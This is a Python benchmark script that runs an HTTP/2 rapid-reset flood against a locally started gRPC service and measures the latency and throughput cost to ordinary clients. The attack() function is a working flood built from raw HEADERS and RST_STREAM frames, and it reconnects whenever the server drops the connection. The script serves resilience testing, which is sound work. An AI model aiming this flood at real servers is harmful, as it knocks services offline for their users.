"""What rapid resets cost others: `resets.py [--resets 1000000] [--seconds 30]`. Needs Go, for the load.

A client opens streams and resets them at once, on a new connection whenever the service ends the one before.
Others have 4 calls in flight meanwhile. Attack and load are on one core, the service is on the other.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import subprocess
import sys
import tempfile
import time

from load import HANDLERS, Load, resident_mib, serve_command, serving
from run import LOAD_CORE, SERVER_CORE, build_gobench

_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_END_HEADERS = 4
_AT_ONCE = 500
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def block() -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": "/coprocess.Dispatcher/Dispatch"}
    fields |= {":authority": "bench", "content-type": "application/grpc", "te": "trailers"}
    # Literals that no table keeps (RFC 7541 §6.2.2).
    return b"".join(
        b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in fields.items()
    )


def attack(address: str, most: int, seconds: float) -> dict[str, float]:
    """How many streams were reset, on how many connections."""
    host, _, port = address.rpartition(":")
    until_s, sent, connections = time.monotonic() + seconds, 0, 0
    fields, code = block(), struct.pack(">I", 8)
    batches: list[bytes] = []
    for first in range(1, 2 * 20_000, 2 * _AT_ONCE):
        streams = range(first, first + 2 * _AT_ONCE, 2)
        frames = (frame(_HEADERS, _END_HEADERS, s, fields) + frame(_RESET, 0, s, code) for s in streams)
        batches.append(b"".join(frames))
    while sent < most and time.monotonic() < until_s:
        connections += 1
        try:
            with socket.create_connection((host, int(port)), 5) as connection:
                connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b""))
                for batch in batches:
                    connection.sendall(batch)
                    sent += _AT_ONCE
        except OSError:
            continue  # Ended, as it should be.
    return {"resets": sent, "connections": connections}


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--resets", type=int, default=1_000_000)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--attack", metavar="ADDRESS", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attack:
        print(json.dumps(attack(args.attack, args.resets, args.seconds)))
        return 0
    gobench = build_gobench()
    if gobench is None:
        print("The bench needs Go, for its load generator.", file=sys.stderr)
        return 1
    load = Load(gobench, LOAD_CORE)
    with tempfile.TemporaryDirectory() as folder:
        command = serve_command(HANDLERS / "native", data_dir=folder)
        with serving(command, SERVER_CORE) as (process, address):
            alone = load.run(address, 4, 5)
            words = ["taskset", "-c", LOAD_CORE, sys.executable, __file__, "--attack", address]
            words += ["--resets", str(args.resets), "--seconds", str(args.seconds)]
            attacker = subprocess.Popen(words, stdout=subprocess.PIPE, text=True)
            beside = load.run(address, 4, min(10.0, args.seconds - 2))
            said, _ = attacker.communicate(timeout=args.seconds + 30)
            figures = {
                **json.loads(said),
                "p99_us_alone": alone["p99_us"],
                "p99_us_beside": beside["p99_us"],
                "calls_per_s_alone": alone["calls_per_s"],
                "calls_per_s_beside": beside["calls_per_s"],
                "rss_mib": resident_mib(process.pid),
            }
    print(json.dumps(figures, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
